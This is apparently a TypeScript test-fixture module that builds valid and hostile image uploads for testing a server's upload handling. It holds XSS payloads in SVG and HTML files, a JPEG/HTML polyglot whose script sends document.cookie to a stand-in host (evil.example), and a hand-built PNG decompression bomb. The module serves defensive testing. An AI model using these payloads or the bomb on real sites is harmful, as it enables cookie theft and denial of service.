import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Test images, valid and hostile, made on the fly (nothing binary is committed).
 * Every generator is deterministic and fast.
 */

const create = (width: number, height: number, background = '#2e86c1') =>
  sharp({ create: { width, height, channels: 3, background } });

export const validJpeg = (width = 600, height = 900, background?: string) => create(width, height, background).jpeg({ quality: 80 }).toBuffer();
export const validPng = (width = 400, height = 600) => create(width, height, '#27ae60').png().toBuffer();
export const validWebp = (width = 400, height = 600) => create(width, height, '#8e44ad').webp().toBuffer();

/** Strings planted in the EXIF block, to be looked for in what the server stores. */
export const EXIF_MARKERS = { make: 'GizliKamera', description: 'Ev adresim burada' } as const;

/** A JPEG carrying camera EXIF and a GPS position (41°N 29°E, Istanbul). */
export function jpegWithExifAndGps(width = 1200, height = 900): Promise<Buffer> {
  return create(width, height, '#d35400')
    .jpeg()
    .withExif({
      IFD0: { Make: EXIF_MARKERS.make, Model: 'X100', ImageDescription: EXIF_MARKERS.description },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 0/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '29/1 0/1 0/1' },
    })
    .toBuffer();
}

/** Plain text with a .jpg name. */
export const textFile = () => Buffer.from('Bu bir resim değil, sadece düz metin.\n'.repeat(20), 'utf8');

export const SCRIPT_PAYLOAD = '<script>alert(document.cookie)</script>';

/** An SVG image with a script inside. */
export const svgWithScript = () =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="150" onload="alert(1)">` +
      `<rect width="100" height="150" fill="red"/>${SCRIPT_PAYLOAD}</svg>`,
    'utf8',
  );

/** An HTML page. */
export const htmlFile = () =>
  Buffer.from(`<!DOCTYPE html><html><head><title>x</title></head><body>${SCRIPT_PAYLOAD}</body></html>`, 'utf8');

/** HTML and JavaScript appended after a real JPEG's end marker (a JPEG/HTML polyglot). */
export const POLYGLOT_PAYLOAD = `<html><body><img src=x onerror="fetch('//evil.example/'+document.cookie)">${SCRIPT_PAYLOAD}</body></html>`;
export async function jpegPolyglot(): Promise<Buffer> {
  return Buffer.concat([await validJpeg(300, 450), Buffer.from(POLYGLOT_PAYLOAD, 'utf8')]);
}

/** A real JPEG padded past the 5 MB limit (the padding trails the end marker). */
export async function oversizeJpeg(bytes = 5 * 1024 * 1024 + 64 * 1024): Promise<Buffer> {
  const jpeg = await validJpeg(800, 1200);
  return Buffer.concat([jpeg, Buffer.alloc(bytes - jpeg.length)]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const byte of buf) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A pixel bomb: a complete, valid PNG of width × height pixels of one colour (1-bit
 * greyscale, all rows zero), a few dozen kilobytes on disk that decode to hundreds of
 * megapixels. Built by hand because encoding it with an image library would itself
 * allocate the huge raster.
 */
let defaultBomb: Buffer | undefined;
export function pixelBombPng(width = 20_000, height = 20_000): Buffer {
  if (width === 20_000 && height === 20_000 && defaultBomb) return defaultBomb;
  const bomb = buildPng(width, height);
  if (width === 20_000 && height === 20_000) defaultBomb = bomb;
  return bomb;
}

function buildPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  ihdr[10] = 0; // deflate
  ihdr[11] = 0; // adaptive filtering
  ihdr[12] = 0; // no interlace
  const row = 1 + Math.ceil(width / 8); // filter byte + packed pixels
  const raw = Buffer.alloc(row * height); // all zero: filter "none", black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}
